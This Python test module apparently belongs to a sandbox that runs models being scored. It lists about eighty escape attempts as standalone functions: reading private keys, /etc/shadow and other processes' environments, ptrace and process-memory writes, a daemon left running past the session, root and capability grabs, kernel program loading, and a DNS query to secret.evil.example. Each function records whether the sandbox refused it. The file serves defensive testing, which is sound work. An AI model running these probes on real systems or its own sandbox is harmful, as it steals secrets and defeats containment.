"""What a hostile model tries, as functions that stand alone: saved with a model they run in its scoring child.

Each takes the targets that the test made and returns where it succeeded; it raises where it was refused. Run as a
program this file does the same without any sandbox: the control that shows that an attack is one.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import multiprocessing
import os
import resource
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import sysconfig
import tempfile
import time
from collections.abc import Callable
from multiprocessing.shared_memory import SharedMemory
from pathlib import Path
from typing import Any

Targets = dict[str, Any]
Attack = Callable[[Targets], Any]
ATTACKS: dict[str, Attack] = {}
NEEDS_ROOT: set[str] = set()
INSIDE_ONLY: set[str] = set()
OFTEN_SHUT = {
    *("add_key", "count_events", "load_program_into_kernel", "mount", "open_by_handle", "raw_socket"),
    *("ring_of_system_calls", "set_attribute", "set_clock_and_name", "trace_process", "copy_memory_of_process"),
}
"""What some containers and file systems refuse to everybody: there the control shows nothing."""
X86 = os.uname().machine == "x86_64"


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def as_root(function: Attack) -> Attack:
    """Without a sandbox only root can do it."""
    NEEDS_ROOT.add(function.__name__)
    return attack(function)


def inside_only(function: Attack) -> Attack:
    """Nothing that a control could do: it would end it, or limits that there are none of."""
    INSIDE_ONLY.add(function.__name__)
    return attack(function)


def call(name: str, *arguments: Any) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    return checked(getattr(libc, name)(*map(whole, arguments)))


def system(x86: int, arm: int, *arguments: Any) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    return checked(libc.syscall(*map(whole, (x86 if X86 else arm, *arguments))))


def whole(argument: Any) -> Any:
    """All 64 bits: of an int, ctypes hands over 32 and leaves the rest to chance."""
    return ctypes.c_long(argument) if isinstance(argument, int) else argument


def checked(result: int) -> int:
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def changed(before: Any, after: Any) -> None:
    if before == after:
        raise PermissionError("nothing has changed")


# Files of the user


@attack
def read_private_key(t: Targets) -> None:
    Path(t["secret"]).read_bytes()


@as_root
def read_shadow(t: Targets) -> None:
    Path("/etc/shadow").read_bytes()


@attack
def read_passwd(t: Targets) -> None:
    Path("/etc/passwd").read_bytes()


@attack
def read_ledger(t: Targets) -> None:
    sqlite3.connect(f"file:{t['ledger']}?mode=ro", uri=True).execute("SELECT * FROM entries").fetchall()


@attack
def read_through_symlink(t: Targets) -> None:
    link = Path(tempfile.mkdtemp()) / "link"
    link.symlink_to(t["secret"])
    link.read_bytes()


@attack
def read_through_hard_link(t: Targets) -> None:
    link = Path(tempfile.mkdtemp()) / "link"
    link.hardlink_to(t["secret"])
    link.read_bytes()


@attack
def list_folder(t: Targets) -> None:
    list(Path(t["folder"]).iterdir())


@attack
def open_by_handle(t: Targets) -> None:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, t["folder"].encode(), handle, ctypes.byref(mount), 0)


@attack
def write_new_file(t: Targets) -> None:
    Path(t["folder"], "new").write_text("x")


@attack
def write_temporary_folder(t: Targets) -> None:
    Path(t["beside"], "new").write_text("x")


@attack
def overwrite_ledger(t: Targets) -> None:
    with Path(t["ledger"]).open("r+b") as file:
        file.write(b"SQL")


@attack
def truncate_file(t: Targets) -> None:
    os.truncate(t["victim_file"], 1)


@attack
def rename_file(t: Targets) -> None:
    Path(t["victim_file"]).rename(t["victim_file"] + ".old").rename(t["victim_file"])


@attack
def delete_file(t: Targets) -> None:
    Path(t["delete_file"]).unlink()


@attack
def change_mode(t: Targets) -> None:
    victim = Path(t["victim_file"])
    before = victim.stat().st_mode
    victim.chmod(0o755)
    changed(before, victim.stat().st_mode)


@attack
def change_owner(t: Targets) -> None:
    os.chown(t["victim_file"], os.getuid(), os.getgid())


@attack
def set_attribute(t: Targets) -> None:
    os.setxattr(t["victim_file"], "user.evil", b"1")


@attack
def watch_files(t: Targets) -> None:
    os.close(call("inotify_init"))


@attack
def write_model_copy(t: Targets) -> None:
    Path(__file__).with_name("planted.py").write_text("")


@attack
def write_libraries(t: Targets) -> None:
    planted = Path(sysconfig.get_path("purelib"), f"planted-{os.getpid()}.pth")
    planted.write_text("")
    planted.unlink()


@attack
def write_shared_memory_folder(t: Targets) -> None:
    planted = Path("/dev/shm", f"planted-{os.getpid()}")
    planted.write_text("")
    planted.unlink()


@attack
def make_fifo(t: Targets) -> None:
    os.mkfifo(Path(tempfile.mkdtemp()) / "fifo")


# Network


@attack
def connect_tcp(t: Targets) -> None:
    socket.create_connection(("127.0.0.1", t["tcp"]), timeout=5).close()


@attack
def send_udp(t: Targets) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"secret", ("127.0.0.1", t["udp"]))


@attack
def ask_name_server(t: Targets) -> None:
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect(("127.0.0.1", t["udp"]))
        sender.send(query)


@attack
def connect_unix(t: Targets) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(t["unix"])


@attack
def connect_abstract(t: Targets) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + t["abstract"])


@attack
def send_through_pair(t: Targets) -> None:
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"secret", "\0" + t["abstract_datagram"])


@attack
def listen(t: Targets) -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()


@attack
def talk_to_kernel(t: Targets) -> None:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close()


@as_root
def raw_socket(t: Targets) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attack
def read_connections(t: Targets) -> None:
    Path("/proc/self/net/tcp").read_bytes()


@attack
def read_mounts(t: Targets) -> None:
    Path("/proc/self/mountinfo").read_bytes()


@attack
def read_through_proc_root(t: Targets) -> None:
    Path("/proc/self/root", t["folder"][1:], "secret").read_bytes()


@attack
def ring_of_system_calls(t: Targets) -> None:
    os.close(system(425, 425, 4, ctypes.create_string_buffer(120)))


@inside_only
def call_by_other_numbers(t: Targets) -> None:
    """socket() by its x32 number; elsewhere by the number of a call that is too new for the list."""
    system(0x40000000 + 41, 470, 2, 1, 0)


# Processes


@attack
def start_process(t: Targets) -> None:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


@attack
def leave_a_daemon(t: Targets) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3)
            Path(t["folder"], "daemon").write_text("lives")
        os._exit(0)


@attack
def run_shell(t: Targets) -> None:
    subprocess.run(["/bin/sh", "-c", "true"], check=True)


@attack
def spawn_shell(t: Targets) -> None:
    os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}), 0)


@attack
def run_memory_file(t: Targets) -> None:
    os.close(os.memfd_create("evil"))


@attack
def start_worker(t: Targets) -> None:
    worker = multiprocessing.get_context("fork").Process(target=int)
    worker.start()
    worker.join()


@inside_only
def become_program(t: Targets) -> None:
    os.execv("/bin/true", ["true"])


@attack
def signal_process(t: Targets) -> None:
    os.kill(t["victim"], signal.SIGCONT)


@attack
def signal_everybody(t: Targets) -> None:
    os.kill(-1, 0)


@attack
def signal_by_thread_number(t: Targets) -> None:
    system(200, 130, t["victim"], 0)


@attack
def signal_by_descriptor(t: Targets) -> None:
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, t["victim"])
    os.close(reading)
    os.close(writing)


@attack
def signal_by_process_descriptor(t: Targets) -> None:
    opened = os.pidfd_open(t["victim"])
    signal.pidfd_send_signal(opened, signal.SIGCONT)
    os.close(opened)


@attack
def trace_process(t: Targets) -> None:
    call("ptrace", 16, t["victim"], 0, 0)
    os.waitpid(t["victim"], 0x40000000)
    call("ptrace", 17, t["victim"], 0, 0)


@attack
def read_environment_of_process(t: Targets) -> None:
    Path(f"/proc/{t['victim']}/environ").read_bytes()


@attack
def write_memory_of_process(t: Targets) -> None:
    os.close(os.open(f"/proc/{t['victim']}/mem", os.O_RDWR))


@attack
def read_command_line_of_process(t: Targets) -> None:
    Path(f"/proc/{t['victim']}/cmdline").read_bytes()


@attack
def copy_memory_of_process(t: Targets) -> None:
    room = ctypes.create_string_buffer(8)
    here = struct.pack("PN", ctypes.addressof(room), 8)
    address = int(t["victim_address"])
    system(310, 270, t["victim"], here, 1, struct.pack("PN", address, 8), 1, 0)


@attack
def limit_process(t: Targets) -> None:
    resource.prlimit(t["victim"], resource.RLIMIT_CORE, (0, 0))


@attack
def slow_process(t: Targets) -> None:
    os.setpriority(os.PRIO_PROCESS, t["victim"], 10)


@attack
def move_process(t: Targets) -> None:
    os.sched_setaffinity(t["victim"], {0})


@attack
def outlive_parent(t: Targets) -> None:
    call("prctl", 1, 0, 0, 0, 0)


# Rights and the system


@as_root
def become_root(t: Targets) -> None:
    os.setuid(0)
    if os.geteuid() != 0:
        raise PermissionError
    os.setgroups([0])


@as_root
def take_capabilities(t: Targets) -> None:
    call("capset", struct.pack("Ii", 0x20080522, 0), struct.pack("6I", 1 << 21, 1 << 21, 0, 0, 0, 0))


@inside_only
def lift_limits(t: Targets) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))


@as_root
def mount(t: Targets) -> None:
    folder = tempfile.mkdtemp().encode()
    call("mount", b"none", folder, b"tmpfs", 0, None)
    call("umount", folder)


@inside_only
def new_namespace(t: Targets) -> None:
    call("unshare", 0x10000000)


@as_root
def change_root(t: Targets) -> None:
    os.chroot("/")


@attack
def add_key(t: Targets) -> None:
    system(248, 217, b"user", b"evil", b"1", ctypes.c_size_t(1), ctypes.c_long(-2))


@attack
def shared_memory(t: Targets) -> None:
    memory = SharedMemory(create=True, size=64)
    memory.close()
    memory.unlink()


@attack
def system_five_memory(t: Targets) -> None:
    call("shmctl", call("shmget", 0, ctypes.c_size_t(4096), 0o1600), 0, None)


@attack
def system_five_messages(t: Targets) -> None:
    call("msgctl", call("msgget", 0, 0o1600), 0, None)


@attack
def system_five_semaphores(t: Targets) -> None:
    call("semctl", call("semget", 0, 1, 0o1600), 0, 0)


@as_root
def load_program_into_kernel(t: Targets) -> None:
    os.close(system(321, 280, 0, struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100), 120))


@attack
def count_events(t: Targets) -> None:
    event = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 128, 0, 0, 0, 0, 0b100001) + bytes(80))
    os.close(system(298, 241, event, 0, -1, -1, ctypes.c_ulong(0)))


@as_root
def set_clock_and_name(t: Targets) -> None:
    name = socket.gethostname()
    socket.sethostname(name)


# What it was not given


@attack
def find_secrets_in_environment(t: Targets) -> None:
    seen = " ".join(os.environ.values()) + Path("/proc/self/environ").read_text()
    if t["planted"] not in seen:
        raise PermissionError("no secret in there")


@attack
def find_open_files(t: Targets) -> None:
    names = [os.path.realpath(f"/proc/self/fd/{number}") for number in range(256)]
    if t["leaked"] not in names:
        raise PermissionError("no such file is open")


def tried(name: str, targets: Targets) -> str:
    """ "done", or "refused: " with the error."""
    try:
        ATTACKS[name](targets)
    except Exception as error:  # noqa: BLE001 - libraries turn refusals into errors of their own
        return f"refused: {type(error).__name__}: {error}"[:300]
    return "done"


if __name__ == "__main__":
    asked = json.loads(sys.argv[1])
    sys.stdout.write(json.dumps({name: tried(name, asked) for name in sys.argv[2:]}))
